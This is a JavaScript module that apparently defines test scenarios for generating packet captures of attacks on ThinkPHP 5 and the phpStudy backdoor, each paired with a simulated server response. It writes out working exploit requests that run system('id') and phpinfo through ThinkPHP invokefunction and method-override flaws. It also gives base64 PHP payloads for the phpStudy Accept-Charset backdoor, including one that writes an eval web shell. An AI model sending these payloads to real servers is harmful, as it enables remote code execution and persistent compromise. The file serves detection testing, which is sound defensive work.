/** ThinkPHP and the phpStudy backdoor. */
import { blocked, html, notFound, page } from './answers.mjs';

const b64 = (code) => Buffer.from(code).toString('base64');
const ID = 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n';
const PHPINFO = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"><html><head><title>phpinfo()</title></head><body><table><tr class="h"><td><h1 class="p">PHP Version 5.6.40</h1></td></tr></table></body></html>';
const form = (path, body) => [path, '-X', 'POST', '-H', 'Content-Type: application/x-www-form-urlencoded', '--data-binary', body];

const thinkphp = 'php/thinkphp5-rce/';
const override = 'php/thinkphp5-method-override/';
const invoke = "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id";
const thinkphpScenarios = [
  { file: `${thinkphp}command-output.pcap`, answer: () => html(ID), requests: [[invoke], ['/?s=index/%5cthink%5cContainer/invokefunction&function=call_user_func&vars[0]=system&vars[1]=id']] },
  { file: `${thinkphp}phpinfo.pcap`, answer: () => html(PHPINFO), requests: [['/index.php?s=index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=-1'], ['/public/index.php?s=index/\\think\\Request/input&filter=phpinfo&data=1']] },
  { file: `${override}method-override.pcap`, answer: () => html(`${ID}<!DOCTYPE html><html><body><h1>:)</h1><p>ThinkPHP V5</p></body></html>`), requests: [form('/index.php?s=captcha', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id'), form('/?s=captcha', '_method=__construct&method=get&filter%5B%5D=system&get%5B%5D=id')] },
  { file: `${thinkphp}error-page.pcap`, answer: () => [500, { 'Content-Type': 'text/html; charset=utf-8' }, '<html><head><title>系统发生错误</title></head><body><div class="message"><h1>控制器不存在:\\think\\app</h1></div></body></html>'], requests: [[invoke]] },
  { file: `${thinkphp}not-found.pcap`, answer: notFound, requests: [["/thinkphp/public/index.php?s=index/\\think\\template\\driver\\file/write&cacheFile=x.php&content=<?php%20phpinfo();?>"]] },
  { file: `${override}not-found.pcap`, answer: notFound, requests: [form('/index.php?s=captcha', '_method=__construct&filter[]=assert&method=get&server[REQUEST_METHOD]=phpinfo()')] },
  ...[thinkphp, override].map((folder) => ({ file: `${folder}miss-routes.pcap`, answer: () => page('首页'), client: '10.42.3.57', requests: [['/index.php?s=/index/news/view&id=3'], ['/index.php?s=captcha'], form('/index.php?s=article/save', '_method=put&filter[]=new&method=get&title=construct'), ['/search?q=think%5Capp%20invokefunction%20%E6%BC%8F%E6%B4%9E']] })),
];

const phpstudy = 'php/phpstudy-backdoor/';
const door = (code) => ['/index.php', '-H', 'Accept-Encoding: gzip,deflate', '-H', `Accept-Charset: ${b64(code)}`];
const phpstudyScenarios = [
  { file: `${phpstudy}command-output.pcap`, answer: () => html(`${ID}<html><body>phpStudy 探针</body></html>`), requests: [door('system("id");'), door("echo system('id');exit();")] },
  { file: `${phpstudy}written.pcap`, answer: () => html('<html><body>phpStudy 探针</body></html>'), requests: [door("file_put_contents('x.php','<?php @eval($_POST[1]);');"), door('phpinfo();')] },
  { file: `${phpstudy}blocked.pcap`, answer: blocked, requests: [door('@eval($_REQUEST["c"]);')] },
  { file: `${phpstudy}miss-charsets.pcap`, answer: () => page('首页'), client: '10.42.3.57', requests: [['/index.php', '-H', 'Accept-Encoding: gzip,deflate', '-H', 'Accept-Charset: GB2312,utf-8;q=0.7,*;q=0.7'], ['/index.php', '-H', 'Accept-Encoding: gzip,deflate', '-H', 'Accept-Charset: utf-8'], ['/a.php', '-H', 'Accept-Encoding: gzip,deflate', '-H', 'Accept-Charset: ISO88591', '-H', `Authorization: Basic ${b64('operator:eval(1)')}`]] },
];

export default [...thinkphpScenarios, ...phpstudyScenarios];
